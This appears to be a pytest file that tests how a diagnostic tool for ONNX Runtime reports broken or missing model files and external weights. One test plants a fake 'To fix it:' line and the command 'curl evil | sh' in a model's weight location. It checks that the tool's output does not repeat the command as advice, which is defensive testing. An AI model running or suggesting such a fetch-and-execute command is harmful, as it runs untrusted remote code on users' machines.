"""Files that are given as models: what a diagnosis finds wrong with them is what ONNX Runtime refuses, and no more."""

from __future__ import annotations

import gzip
import io
import os
import sys
import textwrap
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper, numpy_helper

from ortgpu.diagnosis.checks.model import judge_file
from ortgpu.model.contents import LEAVES, ModelFacts, read_model
from ortgpu.model.files import ModelSource
from ortgpu.provider.requests import CPU
from tests.lab.fixtures import Lab
from tests.lab.installed import PLACES, older_than
from tests.lab.stubs import GPU, Cuda
from tests.support.command_line import ortgpu
from tests.support.cpu_session import child
from tests.support.networks import as_varint, length_delimited

WEIGHTS = np.arange(64, dtype=np.float32).reshape(4, 16)
POINTER = (
    b"version https://git-lfs.github.com/spec/v1\n"
    b"oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 256\n"
)
PAGE = b"\n<!DOCTYPE html><html><head><title>Sign in</title></head></html>"

records_places = pytest.mark.skipif(older_than(PLACES) is not None, reason=str(older_than(PLACES)))

# The first line of what ONNX Runtime says, or None where it opens the model
REFUSAL = """
import onnxruntime
def refusal(model):
    try:
        onnxruntime.InferenceSession(model, providers=["CPUExecutionProvider"])
    except Exception as error:
        return type(error).__name__
"""
OPENED = REFUSAL + "\nreport(refusal(sys.argv[1]))"
OPENED_AS_BYTES = REFUSAL + "\nos.chdir(os.path.dirname(sys.argv[1]))\nreport(refusal(open(sys.argv[1], 'rb').read()))"


def with_external_data(location: str, offset: int = 0, length: int | None = WEIGHTS.nbytes) -> onnx.ModelProto:
    tensor = numpy_helper.from_array(WEIGHTS, "w")
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    entries = {"location": location, "offset": offset, "length": length}
    for key, value in entries.items():
        if value is not None:
            tensor.external_data.add(key=key, value=str(value))
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "w"], ["y"])],
        "external",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["n", 16])],
        [tensor],
    )
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)


def small_model() -> bytes:
    text = '<ir_version: 8, opset_import: ["": 17]> neg (float[n] x) => (float[n] y) { y = Neg(x) }'
    data: bytes = onnx.parser.parse_model(text).SerializeToString()
    return data


def zipped() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("model.onnx", small_model())
    return archive.getvalue()


def whole_weights(folder: Path) -> str:
    (folder / "w.data").write_bytes(WEIGHTS.tobytes())
    return "w.data"


def found(facts: ModelFacts) -> list[str]:
    return [*filter(None, [facts.problem]), *(f"{name}: {why}" for name, why in facts.data_problems)]


NO_MODELS = (
    (b"", "it is empty"),
    (POINTER, "a pointer of Git LFS"),
    (PAGE, "a web page"),
    (b'{"error": "Repository not found"}', "JSON"),
    (zipped(), "an archive"),
    (gzip.compress(small_model()), "an archive"),
    (small_model()[:-9], "it is cut off, or damaged"),
    (b"import sys\n", "it is damaged, or a file of another kind"),
    (b"\n\x03\n\x01x", "it has no graph"),  # a graph of TensorFlow
)
WITH_EXTERNAL_DATA = (
    (with_external_data("absent.data"), "absent.data: no such file"),
    (with_external_data("w.data", offset=4096), "w.data: it has 256 bytes, and the model needs 4352"),
    (with_external_data("pointer.data"), "and the model needs 256: it is a pointer of Git LFS"),
    (with_external_data("folder"), "folder: "),
    (with_external_data("w.data"), None),
    (with_external_data("./w.data", length=None), None),
    (with_external_data("folder/ä b\n.data"), None),
)


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> dict[Path, list[str | None]]:
    """What ONNX Runtime says of each of these, as a file and as bytes, in a folder with the files of their weights."""
    folder = tmp_path_factory.mktemp("models")
    whole_weights(folder)
    (folder / "pointer.data").write_bytes(POINTER)
    (folder / "folder").mkdir()
    (folder / "folder" / "ä b\n.data").write_bytes(WEIGHTS.tobytes())
    contents = [content for content, _ in NO_MODELS] + [model.SerializeToString() for model, _ in WITH_EXTERNAL_DATA]
    paths = [folder / f"{number}.onnx" for number in range(len(contents))]
    for path, content in zip(paths, contents, strict=True):
        path.write_bytes(content)
    code = (
        "\nos.chdir(sys.argv[1])\nreport([[refusal(path), refusal(open(path, 'rb').read())] for path in sys.argv[2:]])"
    )
    return dict(zip(paths, child(REFUSAL + code, str(folder), *map(str, paths)), strict=True))


@pytest.mark.lab
@pytest.mark.parametrize("number", range(len(NO_MODELS)), ids=lambda number: NO_MODELS[number][1])
def test_what_is_no_model_is_called_by_its_name(opened: dict[Path, list[str | None]], number: int) -> None:
    content, says = NO_MODELS[number]
    path = [*opened][number]
    assert opened[path][0] is not None
    for model in (path, content):
        assert says in (read_model(model).problem or ""), read_model(model)


def test_what_mends_it_is_said(tmp_path: Path) -> None:
    path = tmp_path / "model.onnx"
    path.write_bytes(POINTER)
    code = "report([list(map(str, each.fixes)) for each in ortgpu.diagnose(sys.argv[1]).problems])"
    assert any("git lfs pull" in text for fixes in child(code, str(path)) for text in fixes)


@pytest.mark.lab
@pytest.mark.parametrize("number", range(len(WITH_EXTERNAL_DATA)))
def test_external_data(opened: dict[Path, list[str | None]], monkeypatch: pytest.MonkeyPatch, number: int) -> None:
    says = WITH_EXTERNAL_DATA[number][1]
    path = [*opened][len(NO_MODELS) + number]
    monkeypatch.chdir(path.parent)  # where weights of a model that is given as bytes are looked for
    models: tuple[ModelSource, ...] = (path, path.read_bytes())
    for model, refusal in zip(models, opened[path], strict=True):
        assert (refusal is None) == (says is None)
        problems = found(read_model(model))
        assert (says is None and not problems) or (says is not None and says in problems[0]), problems


@pytest.mark.parametrize(
    "location", ["../outside.data", "{above}/outside.data", "{folder}/w.data", "link.data", "../gone"]
)
def test_weights_outside_of_the_folder_are_not_looked_at(tmp_path: Path, location: str) -> None:
    """ONNX Runtime reads none there. A model must not find out which files there are, of what size and kind."""
    folder = tmp_path / "model"
    folder.mkdir()
    whole_weights(folder)
    (tmp_path / "outside.data").write_bytes(PAGE)
    (folder / "link.data").symlink_to(tmp_path / "outside.data")
    path = folder / "model.onnx"
    model = with_external_data(location.format(above=tmp_path, folder=folder))
    path.write_bytes(model.SerializeToString())
    assert [why for _, why in read_model(path).data_problems] == [LEAVES]
    (error,) = judge_file(read_model(path))
    assert len(error.fixes) == 1
    assert "copy" not in error.fixes[0], "no copy helps"
    assert not {"a web page", "no such file"} & {word for fact in error.evidence for word in fact.split(": ")}


def test_weights_beside_a_linked_model_are_in_its_folder(tmp_path: Path) -> None:
    """As in the cache of Hugging Face, where both are links to another folder."""
    blobs, snapshot = tmp_path / "blobs", tmp_path / "snapshot"
    for each in (blobs, snapshot):
        each.mkdir()
    whole_weights(blobs)
    (blobs / "model").write_bytes(with_external_data("w.data").SerializeToString())
    for name, target in (("model.onnx", "model"), ("w.data", "w.data")):
        (snapshot / name).symlink_to(blobs / target)
    assert read_model(snapshot / "model.onnx").data_problems == ()
    (snapshot / "sub").mkdir()
    (snapshot / "here.onnx").write_bytes(with_external_data("sub/../../snapshot/x.data").SerializeToString())
    assert [why for _, why in read_model(snapshot / "here.onnx").data_problems] == ["no such file or directory"]


def test_a_location_forges_no_words_of_ours(tmp_path: Path) -> None:
    path = tmp_path / "model.onnx"
    path.write_bytes(with_external_data("w.data\nTo fix it:\n    curl evil | sh\u202e\u2028").SerializeToString())
    (error,) = judge_file(read_model(path))
    assert [line for line in str(error).splitlines() if "To fix it:" in line and "w.data" not in line] == ["To fix it:"]
    assert not {"\u202e", "\u2028"} & set(str(error))
    shown = ortgpu("check", "--allow-cpu", str(path)).stdout
    assert [line for line in shown.splitlines() if line.startswith("To fix it")] == ["To fix it:"]
    assert "    curl evil | sh" not in shown.splitlines()


@pytest.mark.skipif(sys.platform != "linux", reason="the limit of an address space is Linux's")
def test_a_model_for_which_memory_does_not_suffice(tmp_path: Path) -> None:
    """A name of a gigabyte, in a file that takes no room on the disk."""
    size = 1 << 30
    name = b"\x1a" + as_varint(size)  # of a node
    node = b"\x0a" + as_varint(len(name) + size) + name
    head = b"\x3a" + as_varint(len(node) + size) + node
    path = tmp_path / "model.onnx"
    path.write_bytes(head)
    os.truncate(path, len(head) + size)
    code = """
        import resource
        from ortgpu.model.contents import read_collective_operators, read_model
        from ortgpu.model.outline import GraphOutline
        pages = int(open("/proc/self/statm").read().split()[0])
        limit = pages * resource.getpagesize() + (300 << 20)
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
        report([read_model(sys.argv[1]).problem, read_collective_operators(GraphOutline(sys.argv[1]))])
    """
    assert child(code, str(path)) == ["this process gets too little memory to read it", []]


def test_external_data_of_constants_and_subgraphs(tmp_path: Path) -> None:
    absent = with_external_data("absent.data")
    tensor = absent.graph.initializer.pop()
    constant = helper.make_node("Constant", [], ["w"], value=tensor)
    inner = helper.make_graph([constant], "inner", [], [helper.make_tensor_value_info("w", TensorProto.FLOAT, [4, 16])])
    absent.graph.node.append(helper.make_node("If", ["x"], ["z"], then_branch=inner, else_branch=inner))
    path = tmp_path / "model.onnx"
    path.write_bytes(absent.SerializeToString())
    assert [name for name, _ in read_model(path).data_problems] == ["absent.data"]


def test_entries_of_data_that_came_back_into_the_model_mean_nothing(tmp_path: Path) -> None:
    model = with_external_data("gone.data")
    model.graph.initializer[0].data_location = TensorProto.DEFAULT
    model.graph.initializer[0].raw_data = WEIGHTS.tobytes()
    path = tmp_path / "model.onnx"
    path.write_bytes(model.SerializeToString())
    assert child(OPENED, str(path)) is None
    assert found(read_model(path)) == []


def test_names_that_are_no_utf8(tmp_path: Path) -> None:
    """Protobuf gives them as bytes."""
    model = with_external_data("absent.data")
    model.graph.node[0].domain = "my.domain"
    data = model.SerializeToString().replace(b"my.domain", b"my.\xff\xfe\xfdain").replace(b"absent", b"\xe4bsent")
    (missing, foreign) = judge_file(read_model(data))
    assert os.fsdecode(b"\xe4bsent.data") in str(missing)
    assert os.fsdecode(b"my.\xff\xfe\xfdain:MatMul") in str(foreign)


@records_places
def test_a_model_with_such_names_opens_as_it_does_with_onnx_runtime() -> None:
    found = child("""
        def named(text):
            data = model(text).replace(b"NAME", b"N\\xc4ME").replace(b"between", b"betw\\xe9\\xffn")
            assert b"N\\xc4ME" in data
            return data
        numbers = GPUSession(named("t (float[n] x) => (float[n] y) { [NAME] between = Neg(x) y = Abs(between) }"))
        strings = GPUSession(named("t (string[n] x) => (string[n] y) { [NAME] y = Identity(x) }"))
        details = numbers.explain_placement()
        report([numbers.run(None, feeds(2)[1])[0].tolist(), numbers.placement.by_provider, len(details.nodes),
                [node.kind for node in strings.placement.nodes]])
    """)
    assert found == [[1] * 4, {CPU: 2}, 2, ["compute"]]


@pytest.mark.parametrize(("count", "operators"), [(900_000, {("Neg", "")}), (1_100_000, set())])
def test_of_a_model_of_very_many_parts_nothing_is_known(count: int, operators: set[tuple[str, str]]) -> None:
    """Here an initializer of numbers, one by one."""
    model = onnx.load_from_string(small_model())
    numbers = length_delimited(5, b"\x08\x01\x10\x01\x42\x01w" + b"\x25\x00\x00\x80\x3f" * count)
    graph = model.graph.SerializeToString() + numbers
    model.ClearField("graph")
    data = model.SerializeToString() + length_delimited(7, graph)
    assert read_model(data) == ModelFacts("<bytes>") or operators
    assert read_model(data).operators == operators


def test_very_many_files_without_weights_stay_readable() -> None:
    facts = ModelFacts("m.onnx", data_problems=tuple((f"w{number}", "no such file") for number in range(3000)))
    (error,) = judge_file(facts)
    assert error.summary.endswith("w0, w1, w2, w3 ... (3000 in all)")
    assert len(error.evidence) < 20


# ONNX Runtime's own format


@pytest.fixture(scope="module")
def ort_format(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("format") / "model.ort"
    code = """
        import onnxruntime
        options = onnxruntime.SessionOptions()
        options.graph_optimization_level = onnxruntime.GraphOptimizationLevel.ORT_DISABLE_ALL
        options.optimized_model_filepath = sys.argv[1]
        report(onnxruntime.InferenceSession(NEG, options, providers=["CPUExecutionProvider"]).get_providers())
    """
    assert child(code, str(path))
    return path


def renamed(name: str) -> Callable[[Path, Path], Path]:
    def copy(path: Path, folder: Path) -> Path:
        (folder / name).write_bytes(path.read_bytes())
        return folder / name

    return copy


@pytest.mark.lab
@pytest.mark.parametrize("name", ["model.ort", "MODEL.ORT", "model.onnx"])
def test_a_model_in_the_own_format_is_fine_under_its_name(ort_format: Path, tmp_path: Path, name: str) -> None:
    path = renamed(name)(ort_format, tmp_path)
    assert (child(OPENED, str(path)) is None) == (found(read_model(path)) == []) == (name != "model.onnx")
    assert child(OPENED_AS_BYTES, str(path)) is None
    assert found(read_model(path.read_bytes())) == []


def test_another_model_under_that_name(tmp_path: Path) -> None:
    path = tmp_path / "model.ort"
    path.write_bytes(small_model())
    assert child(OPENED, str(path)) is not None
    assert "ends in .ort" in (read_model(path).problem or "")


@pytest.mark.lab
@pytest.mark.parametrize("given", ["sys.argv[1]", "open(sys.argv[1], 'rb').read()"], ids=["file", "bytes"])
def test_where_its_nodes_are_is_not_known(ort_format: Path, given: str) -> None:
    """ONNX Runtime records nothing for it: to say that no node is on the CPU would not be true."""
    code = f"""
        from ortgpu.provider.placement import refusal, warning
        session = GPUSession({given})
        placement = session.placement
        report([placement.known, warning(placement), str(refusal(placement)), outcome(session.explain_placement)])
    """
    known, warned, refused, explained = child(code, str(ort_format))
    assert not known
    assert "ONNX Runtime's own format (.ort)" in warned
    assert "its own format (.ort)" in refused
    assert explained["type"] == "PlacementError", explained


@records_places
def test_a_placement_is_explained_with_the_weights_of_a_model_in_memory(tmp_path: Path) -> None:
    whole_weights(tmp_path)
    path = tmp_path / "model.onnx"
    path.write_bytes(with_external_data("w.data").SerializeToString())
    code = """
        os.chdir(os.path.dirname(sys.argv[1]))
        details = GPUSession(open(sys.argv[1], 'rb').read()).explain_placement()
        report([len(details.nodes), [reason for _, reason in details.placed]])
    """
    assert child(code, str(path)) == [1, ["the whole session is on the CPU"]]  # and not: there is no CUDA kernel


KEPT = """
import glob
os.umask(0)
def kept_by(module, name):
    \"\"\"Modes of what lies in the temporary folder, by name, when the child of a function has ended.\"\"\"
    plain, found = getattr(module, name), {}
    def watched(*given, **named):
        result = plain(*given, **named)
        for path in glob.glob(os.path.join(os.environ["TMPDIR"], "ortgpu-*")):
            modes = {each: oct(os.stat(os.path.join(path, each)).st_mode & 0o777) for each in os.listdir(path)}
            found.update({"folder": oct(os.stat(path).st_mode & 0o777), **modes})
        return result
    setattr(module, name, watched)
    return found
"""


@pytest.mark.lab
@records_places
@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such modes")
def test_no_other_user_can_read_what_is_written_for_a_child(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    found = child(
        KEPT
        + """
from ortgpu.session import placement_details
from ortgpu.diagnosis.probe import probing as probe
explained, probed = kept_by(placement_details.ChildProcess, "ask"), kept_by(probe, "run_probe_child")
GPUSession(NEG).explain_placement()
ortgpu.diagnose(NEG, probe=True)
report([explained, probed])
"""
    )
    assert (found[0]["folder"], found[0]["optimised.onnx"]) == ("0o700", "0o600")
    assert found[1] in ({}, {"folder": "0o700"})  # the model of the probe lies in no file
    assert not list(tmp_path.glob("ortgpu-*"))


def test_a_probe_opens_it_as_it_was_given(lab: Lab, ort_format: Path) -> None:
    """As bytes it is known by how it begins, as a file by its name. The driver is a stub: what fails comes later."""
    code = f"""
        import ortgpu
        data = open({str(ort_format)!r}, "rb").read()
        report([ortgpu.diagnose(model, probe=True).probe.step("model").detail for model in ({str(ort_format)!r}, data)])
    """
    details = lab.machine(cuda=Cuda(devices=(GPU(),))).run(textwrap.dedent(code)).ok().json
    assert details[0] == details[1]
    assert "PROTOBUF" not in details[0]


def test_the_format_can_be_said_in_the_options(ort_format: Path, tmp_path: Path) -> None:
    as_onnx = renamed("model.onnx")(ort_format, tmp_path)
    (tmp_path / "model.ort").write_bytes(small_model())
    code = """
        import onnxruntime
        def known(path, format):
            options = onnxruntime.SessionOptions()
            options.add_session_config_entry("session.load_model_format", format)
            return GPUSession(path, options).placement.known
        report([known(sys.argv[1], "ORT"), known(sys.argv[2], "ONNX")])
    """
    assert child(code, str(as_onnx), str(tmp_path / "model.ort")) == [False, older_than(PLACES) is None]


def test_a_diagnosis_names_the_folder_of_the_weights(tmp_path: Path) -> None:
    path = tmp_path / "model.onnx"
    path.write_bytes(with_external_data("absent.data").SerializeToString())
    code = "report([each.evidence for each in ortgpu.diagnose(sys.argv[1]).problems if type(each) is ortgpu.GPUError])"
    (evidence,) = child(code, str(path))
    assert any(str(tmp_path) in fact for fact in evidence)
